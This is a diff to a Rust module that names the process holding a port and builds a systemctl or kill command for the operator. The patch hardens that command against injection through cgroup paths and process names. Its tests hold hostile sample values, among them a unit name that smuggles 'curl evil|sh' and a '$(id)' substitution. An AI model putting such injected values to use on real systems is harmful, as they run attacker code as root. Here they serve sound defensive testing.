@@ -4,14 +4,16 @@ use std::fmt;
 use std::net::{IpAddr, SocketAddr};
 use std::path::Path;
 
+use crate::safe_text::{one_line, shell_word};
+
 /// A process, as shown to the operator.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(crate) struct Holder {
-    /// Name of the process.
+    /// Name of the process, on one line. The process chooses it.
     pub(crate) name: String,
     /// Process ID.
     pub(crate) pid: u32,
-    /// The systemd unit of the process.
+    /// The system service of the process.
     pub(crate) unit: Option<String>,
 }
 
@@ -19,16 +21,17 @@ impl Holder {
     /// Returns the command that ends the process and keeps it from coming back.
     pub(crate) fn command_to_end_it(&self) -> String {
         match &self.unit {
-            Some(unit) => format!("systemctl disable --now {unit}"),
+            Some(unit) => format!("systemctl disable --now {}", shell_word(unit)),
             None => format!("kill {}", self.pid),
         }
     }
 
     /// Reads the process from its directory in /proc.
     pub(crate) fn of(process: &Path, pid: u32) -> Self {
-        let name = std::fs::read_to_string(process.join("comm")).unwrap_or_default();
+        let name = std::fs::read(process.join("comm")).unwrap_or_default();
+        let name = String::from_utf8_lossy(name.trim_ascii_end());
         let groups = std::fs::read_to_string(process.join("cgroup")).unwrap_or_default();
-        Self { name: name.trim().to_owned(), pid, unit: unit(&groups) }
+        Self { name: one_line(&name).into_owned(), pid, unit: unit(&groups) }
     }
 }
 
@@ -38,11 +41,25 @@ impl fmt::Display for Holder {
     }
 }
 
-/// Returns the service in which the process was started, from /proc/PID/cgroup.
+/// Returns the system service in which the process was started, from /proc/PID/cgroup.
+///
+/// The name becomes part of a command for root, so it has to be one that only root can have given. systemd manages the
+/// groups of slices itself, and lets others make groups, under any name, below units alone: users below their manager
+/// in `user.slice`, and services with `Delegate=` below themselves. So the service has to be a child of slices that are
+/// not a user's, and the process directly in it. Only systemd's own hierarchy counts, because those of other
+/// controllers may belong to users as a whole.
 fn unit(groups: &str) -> Option<String> {
-    let services = groups.lines().filter_map(|line| line.rsplit('/').find(|part| part.ends_with(".service")));
-    // A user's service manager is a service as well, but not the one that holds the port.
-    services.filter(|unit| !unit.starts_with("user@")).map(ToOwned::to_owned).next()
+    let path = groups.lines().find_map(|line| {
+        let (_number, rest) = line.split_once(':')?;
+        let (controllers, path) = rest.split_once(':')?;
+        matches!(controllers, "" | "name=systemd").then_some(path)
+    })?;
+    let (slices, unit) = path.strip_prefix('/')?.rsplit_once('/')?;
+    let is_system = slices.split('/').all(|slice| slice.ends_with(".slice") && !slice.starts_with("user"));
+    // systemd's `unit_name_is_valid`. One that begins with a hyphen would be an option.
+    let valid = |c: char| c.is_ascii_alphanumeric() || ":-_.\\@".contains(c);
+    let is_unit = unit.ends_with(".service") && !unit.starts_with(['-', '.']) && unit.chars().all(valid);
+    (is_system && is_unit).then(|| unit.to_owned())
 }
 
 /// Returns the process that holds a local port. `table` is a file of /proc/net: udp, udp6, tcp or tcp6.
@@ -131,9 +148,52 @@ mod tests {
     fn a_process_is_ended_by_its_unit_where_it_has_one() {
         let chrony = "12:cpu:/system.slice\n0::/system.slice/chrony.service\n";
         assert_eq!(unit(chrony).as_deref(), Some("chrony.service"));
-        assert_eq!(unit("0::/user.slice/user-0.slice/user@0.service/init.scope\n"), None);
+        let templated = r"1:name=systemd:/system.slice/system-ntp.slice/ntp@a\x2db.service";
+        assert_eq!(unit(templated).as_deref(), Some(r"ntp@a\x2db.service"));
         let holder = |unit| Holder { name: "chronyd".into(), pid: 7, unit };
         assert_eq!(holder(unit(chrony)).command_to_end_it(), "systemctl disable --now chrony.service");
+        assert_eq!(
+            holder(unit(templated)).command_to_end_it(),
+            r"systemctl disable --now 'ntp@a\x2db.service'"
+        );
         assert_eq!(holder(None).command_to_end_it(), "kill 7");
+    }
+
+    #[test]
+    fn a_group_that_somebody_else_than_systemd_may_have_made_names_no_unit() {
+        for groups in [
+            "",
+            "0::/",
+            "0::/../x.service",
+            "0::/x.service",
+            "0::/init.scope",
+            "0::/user.slice/user-1000.slice/user@1000.service",
+            "0::/user.slice/user-1000.slice/user@1000.service/app.slice/x.service",
+            "0::/user.slice/user-1000.slice/user@1000.service/system.slice/x.service",
+            "0::/user.slice/user-1000.slice/session-3.scope",
+            "0::/system.slice/delegating.service/x.service",
+            "0::/system.slice/docker-0123.scope/system.slice/x.service",
+            "0::/machine.slice/a.scope/payload/system.slice/x.service",
+            "12:cpu:/system.slice/x.service",
+            "0::/system.slice/a;curl evil|sh;.service",
+            "0::/system.slice/$(id).service",
+            "0::/system.slice/a b.service",
+            "0::/system.slice/--now.service",
+            "0::/system.slice/.service",
+            "0::/system.slice/x.scope",
+            "0::/system.slice/x.service (deleted)",
+        ] {
+            assert_eq!(unit(groups), None, "{groups}");
+        }
+    }
+
+    #[test]
+    fn the_name_of_a_process_stays_on_its_line() {
+        let directory = std::env::temp_dir().join(format!("pooltime-holder-{}", std::process::id()));
+        std::fs::create_dir(&directory).unwrap();
+        std::fs::write(directory.join("comm"), b"a\nb\x1b[2J\xff\n").unwrap();
+        let holder = Holder::of(&directory, 7);
+        std::fs::remove_dir_all(directory).unwrap();
+        assert_eq!(holder.to_string(), "a\\nb\\u{1b}[2J\u{fffd} (process 7)");
     }
 }
